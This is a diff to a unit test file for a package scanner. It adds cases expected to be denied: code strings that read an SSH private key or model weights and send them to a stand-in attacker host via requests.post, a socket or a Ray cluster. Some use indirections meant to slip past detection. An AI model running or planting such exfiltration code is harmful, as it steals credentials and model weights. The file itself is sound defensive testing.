@@ -23,6 +23,7 @@ from airlock.imports.packages.selfqueued import local_items, queued, queues_itse
 from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package
 
 URL = "https://sink.attacker.invalid/c"
+W = "/models/llama/model.safetensors"
 SSH_KEY = "os.path.expanduser('~/.ssh/id_rsa')"
 # A download from a bare address, written to a path that is then run: a dropper when the
 # write is seen (``tests/unit/imports/packages/test_vet_mutations.py``).
@@ -312,6 +313,42 @@ KEPT: dict[str, tuple[dict[str, str], Outcome]] = {
             "        self.sock = socket.create_connection(('203.0.113.5', 443))\n"
             f"    def go(self):\n        getattr(self.sock, 'send')(open({SSH_KEY}, 'rb').read())\n"
             "C().go()\n"
+        ),
+        Outcome.DENY,
+    ),
+    # 3. Already denied before this probe (ADR 0122 listed them as not detected): a Ray
+    # task handed through a parameter or a list, a generator with parameters yielding a
+    # secret or weights into a post.
+    "weights-to-a-ray-task-handed-as-a-parameter-on-import": (
+        init(
+            f"import ray\nray.init(address='ray://203.0.113.5:10001')\n"
+            "@ray.remote\ndef keep(b):\n    return len(b)\n"
+            f"def run(task):\n    return task.remote(open('{W}', 'rb').read())\nrun(keep)\n"
+        ),
+        Outcome.DENY,
+    ),
+    "weights-to-a-ray-task-taken-from-a-list-on-import": (
+        init(
+            f"import ray\nray.init(address='ray://203.0.113.5:10001')\n"
+            "@ray.remote\ndef keep(b):\n    return len(b)\n"
+            f"for t in [keep]:\n    t.remote(open('{W}', 'rb').read())\n"
+        ),
+        Outcome.DENY,
+    ),
+    "ssh-key-yielded-by-a-generator-given-its-path-into-a-post-on-import": (
+        init(
+            "import os, requests\ndef chunks(path):\n"
+            "    with open(path, 'rb') as f:\n        yield f.read()\n"
+            f"requests.post('{URL}', data=chunks({SSH_KEY}))\n"
+        ),
+        Outcome.DENY,
+    ),
+    "weights-yielded-in-chunks-by-a-generator-given-path-and-size-on-import": (
+        init(
+            "import requests\ndef chunks(path, n):\n    with open(path, 'rb') as f:\n"
+            "        while True:\n            b = f.read(n)\n            if not b:\n"
+            "                break\n            yield b\n"
+            f"requests.post('{URL}', data=chunks('{W}', 1 << 20))\n"
         ),
         Outcome.DENY,
     ),
